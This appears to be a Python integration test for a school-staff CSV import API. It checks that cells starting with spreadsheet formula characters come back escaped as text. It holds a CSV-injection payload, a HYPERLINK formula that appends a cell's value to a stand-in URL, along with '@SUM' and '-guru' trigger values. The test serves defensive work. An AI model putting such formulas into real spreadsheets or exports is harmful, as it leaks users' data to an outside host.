"""Uploads made to hurt, over HTTP against the real platform: each is refused or defused, and
the platform goes on answering."""

import csv
import io

import pytest
from kombel_runtime.auth import Role
from kombel_runtime.testing.harness import RunningPlatform
from kombel_runtime.testing.regions import fresh_kabkota

from .test_imports_api import digits, make_school, upload

pytestmark = pytest.mark.infra


def as_csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


def downloaded(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


async def test_formulas_in_uploaded_cells_come_back_as_text(platform: RunningPlatform) -> None:
    kabkota = fresh_kabkota()
    npsn = await make_school(platform, kabkota)
    staff = platform.auth(Role.DISTRICT_STAFF, kabkota=kabkota)
    link = '=HYPERLINK("http://contoh.id/?d="&B2,"Klik")'
    phone = "+62 812" + digits(8)
    content = as_csv(
        [
            ["Nama Lengkap", "NUPTK", "No. HP/WA", "Jabatan", "NPSN Sekolah"],
            [link, digits(16), phone, "guru", npsn],
            ["@SUM(A1:A9)", "123", "", "-guru", npsn],  # refused: a NUPTK of 3 digits
        ]
    )
    first = await upload(platform, "people", content, staff, dry_run=False)
    assert (first["created"], first["rejected"]) == (1, 1), first
    errors = downloaded((await platform.client.get(first["errors_csv"], headers=staff)).text)
    assert errors[1][:2] == ["3", "'@SUM(A1:A9)"]
    assert errors[1][4] == "'-guru"

    again = await upload(platform, "people", content, staff, dry_run=False)
    assert again["duplicates"] == 1, again
    matches = downloaded((await platform.client.get(again["matches_csv"], headers=staff)).text)
    assert matches[1][:4] == ["2", "'" + link, matches[1][2], "'" + phone]
